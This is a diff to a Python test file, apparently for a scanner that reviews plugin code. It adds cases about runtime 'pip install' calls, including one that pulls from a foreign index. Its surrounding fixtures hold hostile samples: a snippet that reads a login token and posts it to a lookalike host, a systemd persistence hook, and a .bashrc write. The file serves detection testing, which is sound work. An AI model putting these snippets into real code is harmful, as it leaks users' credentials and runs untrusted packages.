@@ -31,6 +31,7 @@ SERVICE = (
     "    subprocess.run(['systemctl', '--user', 'enable', 'a.service'])\n"
 )
 SENDS = f"import json, os, requests\ntoken = json.load(open({LOGIN}))['t']\nrequests.post('%s', data=token)\n"
+INSTALLS = "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', '-q', '%s'])\n"
 STARTUP = "import %s\ndef test_it(tmp_path):\n    (%s / '.bashrc').write_text('x')\n"
 CASES: dict[str, tuple[Mapping[str, str], tuple[str, Severity | None]]] = {
     "typed and told": (
@@ -68,6 +69,35 @@ CASES: dict[str, tuple[Mapping[str, str], tuple[str, Severity | None]]] = {
     "a login that goes elsewhere": (
         {"__init__.py": SENDS % "https://googleapis.in.example/token"},
         ("exfiltration-credentials", ERROR),
+    ),
+    "a package that is declared": (
+        {"__init__.py": INSTALLS % "acme-sdk>=1", "plugin.yaml": "name: a\ndependencies: ['acme_sdk>=1']\n"},
+        ("remote-code-installs-package", NOTE),
+    ),
+    "a package that is not declared": (
+        {"__init__.py": INSTALLS % "other", "plugin.yaml": "name: a\ndependencies: ['acme_sdk>=1']\n"},
+        ("remote-code-installs-package", WARNING),
+    ),
+    "a package that is declared, by a name of the module": (
+        {
+            "__init__.py": "WANTED = 'acme-sdk>=1'\n" + INSTALLS.replace("'%s'", "WANTED"),
+            "pyproject.toml": "[project]\ndependencies = ['acme-sdk']\n",
+        },
+        ("remote-code-installs-package", NOTE),
+    ),
+    "a package that is declared beside another": (
+        {
+            "__init__.py": "def go(name):\n    " + INSTALLS.replace("\n", "\n    ").replace("'%s'", "name, 'acme-sdk'"),
+            "requirements.txt": "acme-sdk==1.0\n",
+        },
+        ("remote-code-installs-package", WARNING),
+    ),
+    "a package that is declared, from elsewhere": (
+        {
+            "__init__.py": INSTALLS % "acme-sdk', '--index-url', 'https://in.example",
+            "requirements.txt": "acme-sdk==1.0  # pinned\n",
+        },
+        ("remote-code-installs-package", WARNING),
     ),
     "a folder of a test": (
         {"__init__.py": "", "tests/test_a.py": STARTUP % ("os", "tmp_path")},
